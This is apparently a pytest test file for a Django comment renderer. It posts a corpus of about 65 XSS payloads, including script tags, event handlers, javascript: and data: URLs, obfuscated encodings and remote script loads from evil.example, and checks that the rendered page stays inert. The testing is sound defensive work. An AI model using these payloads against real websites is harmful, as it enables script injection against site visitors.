from __future__ import annotations

import html
from html.parser import HTMLParser

import pytest
from django.test import override_settings

from comments.rendering import ALLOWED_TAGS, count_links, render_body
from comments.services import comment_post
from tests.factories import make_commenter

# Each payload must come out with no executable markup: no script, no event handler,
# no javascript:/vbscript:/data: URL, no SVG/MathML/iframe/object, no style.
XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=`javascript:alert(1)`>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '[x](https://ok.example "title" onmouseover=alert(1))',
    '[x](https://ok.example" onmouseover="alert(1))',
    "<a href=https://ok.example onmouseover=alert(1)>hover</a>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</li></ol><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u202e<script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<img src=x o\u200bnerror=alert(1)>",
    "[\u202egnp.exe](https://evil.example/\u202eexe.png)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    "- <svg/onload=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    "[x](<javascript:alert(1)>)",
    '<https://ok.example/" onmouseover="alert(1)>',
    "<javascript:alert(1)>",
]

DANGEROUS_TAGS = {
    "script",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "style",
    "link",
    "meta",
    "base",
    "form",
    "input",
    "img",
    "video",
    "audio",
    "source",
    "details",
    "marquee",
    "body",
}
SAFE_SCHEMES = ("http://", "https://", "mailto:")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def elements(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Collector()
    parser.feed(markup)
    parser.close()
    return parser.tags


def assert_inert(markup: str) -> None:
    for tag, attrs in elements(markup):
        assert tag not in DANGEROUS_TAGS, (tag, markup)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, markup)
            assert name != "style", markup
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                url = html.unescape(value or "").strip().lower()
                assert url.startswith(SAFE_SCHEMES) or url.startswith(("/", "#")), (url, markup)


def test_the_corpus_has_at_least_fifty_payloads():
    assert len(set(XSS_CORPUS)) >= 50


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_a_hostile_body_renders_without_executable_markup(payload):
    rendered = render_body(payload)
    assert_inert(rendered)
    assert {tag for tag, _ in elements(rendered)} <= ALLOWED_TAGS


def test_every_link_gets_nofollow_ugc_noopener():
    rendered = render_body("[a](https://a.example) and [b](mailto:b@example.com)")
    anchors = [attrs for tag, attrs in elements(rendered) if tag == "a"]
    assert [a["href"] for a in anchors] == ["https://a.example", "mailto:b@example.com"]
    assert all(a["rel"] == "nofollow ugc noopener" for a in anchors)


def test_the_markdown_subset_renders_quotes_lists_and_code_blocks():
    rendered = render_body("> quoted\n\n1. one\n2. two\n\n```\nx < y\n```")
    assert [tag for tag, _ in elements(rendered)] == ["blockquote", "p", "ol", "li", "li", "pre", "code"]
    assert "x &lt; y" in rendered


def test_headings_images_and_tables_stay_text():
    rendered = render_body("# Big\n\n![img](https://a.example/x.png)")
    assert {tag for tag, _ in elements(rendered)} <= {"p", "a"}


def test_links_are_counted_in_markdown_and_bare():
    assert count_links("no links") == 0
    assert count_links("[a](https://a.example) [b](https://b.example)") == 2
    assert count_links("see https://a.example and www.b.example and http://c.example") == 3


@override_settings(
    COMMENT_RATE_LIMIT_USER="1000/m", COMMENT_RATE_LIMIT_IP="1000/m", COMMENT_HOLD_MAX_LINKS=100
)
def test_the_whole_corpus_posted_as_comments_leaves_the_article_page_inert(client, published_article):
    author = make_commenter(display_name="<script>alert('name')</script>")
    for n, payload in enumerate(XSS_CORPUS):
        # The number keeps bodies distinct once invisible characters are stripped.
        comment_post(user=author, article=published_article, body=f"{payload}\n\n{n}")
    client.force_login(make_commenter())
    page = client.get(published_article.get_absolute_url()).content.decode()
    start = page.index('<section class="discussion"')
    discussion = page[start : page.index("</section>", start)]
    assert discussion.count('class="comment"') == len(XSS_CORPUS)
    never = DANGEROUS_TAGS - {"script", "link", "form", "input", "details"}
    for tag, attrs in elements(discussion):
        assert tag not in never, tag
        assert not any(name.startswith("on") or name == "style" for name in attrs), (tag, attrs)
        for name in ("href", "src", "action"):
            url = html.unescape(attrs.get(name) or "").strip().lower()
            assert not url or url.startswith(SAFE_SCHEMES + ("/", "#")), url
        # The page's own elements are the only scripts, stylesheets, forms and inputs.
        if tag == "script":
            assert attrs["src"].startswith("/static/js/comments")
        if tag == "link":
            assert attrs["href"].startswith("/static/css/")
        if tag == "form":
            assert attrs["action"].startswith("/comments/")
        if tag == "input":
            assert attrs["name"] in {"csrfmiddlewaretoken", "parent", "website", "reports_wrong_claim"}
        if tag == "details":
            assert attrs == {"class": "reply"}
    assert "&lt;script&gt;alert(&#x27;name&#x27;)&lt;/script&gt;" in discussion
